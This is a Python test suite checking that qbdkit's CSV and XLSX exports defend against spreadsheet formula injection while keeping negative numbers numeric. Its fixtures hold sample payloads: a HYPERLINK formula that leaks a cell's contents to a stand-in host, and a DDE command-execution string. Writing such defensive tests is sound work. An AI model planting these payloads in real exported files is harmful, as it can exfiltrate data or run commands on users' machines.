"""Every spreadsheet qbdkit writes keeps formula-like text as text (CSV injection, issue 11)
and reads back unchanged; genuine negative numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl

from qbdkit.io.sheets import TRIGGERS

HOSTILE = {
    "failure_mode": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "effect": "@SUM(A1:A9)",
    "cause": "+cmd|' /C calc'!A0",
    "step": "-1+2",
    "action": "\t=1+1",
}
# the FMEA keeps texts without surrounding white space
WRITTEN = {k: v.strip() for k, v in HOSTILE.items()}
HEADER = ("id,step,function,failure_mode,effect,cause,prevention,detection_control,severity,"
          "occurrence,detection,action")


def _fmea(tmp_path):
    row = {"id": "F01", "step": HOSTILE["step"], "function": "keep pH",
           "failure_mode": HOSTILE["failure_mode"], "effect": HOSTILE["effect"],
           "cause": HOSTILE["cause"], "prevention": "-", "detection_control": "daily check",
           "severity": "8", "occurrence": "4", "detection": "5", "action": HOSTILE["action"]}
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(HEADER.split(","))
    w.writerow([row[h] for h in HEADER.split(",")])
    p = tmp_path / "fmea.csv"
    p.write_text(buf.getvalue(), encoding="utf-8")
    return p


def test_ranked_fmea_csv_has_no_live_formula(cli, tmp_path):
    out = tmp_path / "ranked.csv"
    r = cli("risk", "fmea", _fmea(tmp_path), "--out", out)
    assert r.code == 0, r.err
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1]
    cells = dict(zip(header, body, strict=True))
    for name, text in WRITTEN.items():
        assert cells[name] == "'" + text  # the spreadsheet's own "this is text" marker
    assert cells["prevention"] == "-"  # a lone dash is no formula
    assert cells["severity"] == "8" and cells["rpn"] == "160"
    for cell in body:
        assert not (len(cell) > 1 and cell[0] in TRIGGERS and not cell.lstrip("+-").replace(
            ".", "", 1).isdigit()), cell
    # … and qbdkit reads its own file back as written by the user
    from qbdkit.io import read_table

    back = read_table(out).frame
    for name, text in WRITTEN.items():
        assert back[name].iloc[0] == text


def test_ranked_fmea_xlsx_has_no_formula_cell(cli, tmp_path):
    out = tmp_path / "ranked.xlsx"
    r = cli("risk", "fmea", _fmea(tmp_path), "--out", out)
    assert r.code == 0, r.err
    ws = openpyxl.load_workbook(out)["fmea"]
    header = [c.value for c in ws[1]]
    for name, text in WRITTEN.items():
        cell = ws.cell(row=2, column=header.index(name) + 1)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    rpn = ws.cell(row=2, column=header.index("rpn") + 1)
    assert rpn.value == 160 and rpn.data_type == "n"


def test_run_sheets_keep_formula_like_levels_as_text(cli, tmp_path):
    factors = tmp_path / "factors.yaml"
    factors.write_text("factors:\n  - {name: Temperature, low: -5, high: 5}\n"
                       "  - {name: Feed, type: categorical, levels: ['=1+1', '-B', '@C']}\n",
                       encoding="utf-8")
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"runs{suffix}"
        r = cli("doe", "design", "--factors", factors, "--type", "full", "--out", out,
                "--response", "=Yield", "--seed", "1")
        assert r.code == 0, r.err
        if suffix == ".xlsx":
            wb = openpyxl.load_workbook(out)
            assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows()
                       for c in row)
            temps = [c.value for c in wb["runs"]["C"][1:]] + [c.value for c in
                                                             wb["runs"]["D"][1:]]
            assert -5 in temps or -5.0 in temps  # negative numbers stay numbers
        else:
            text = out.read_text("utf-8-sig")
            assert "'=1+1" in text and "'-B" in text and "'@C" in text and "'=Yield" in text
            assert ",-5.0," in text
        from qbdkit.io import read_table

        levels = set(read_table(out).frame["Feed"])
        assert levels == {"=1+1", "-B", "@C"}


def test_project_data_files_are_guarded_and_load_back(tmp_path):
    from qbdkit.model import load_project, save_project
    from qbdkit.model.schema import Batch, Measurement, Product, Project, QualityAttribute

    project = Project(name="p", product=Product(name="x", modality="mab"),
                      quality_attributes=[QualityAttribute(name="note")],
                      batches=[Batch(id="B1", kind="PPQ", notes="=HYPERLINK(\"x\")",
                                     scale=-1.5)],
                      measurements=[Measurement(batch="B1", name="note", value="@cmd")])
    save_project(project, tmp_path / "p")
    text = (tmp_path / "p" / "data" / "batches.csv").read_text("utf-8-sig")
    assert "'=HYPERLINK" in text and ",-1.5," in text
    assert "'@cmd" in (tmp_path / "p" / "data" / "measurements.csv").read_text("utf-8-sig")
    assert load_project(tmp_path / "p") == project
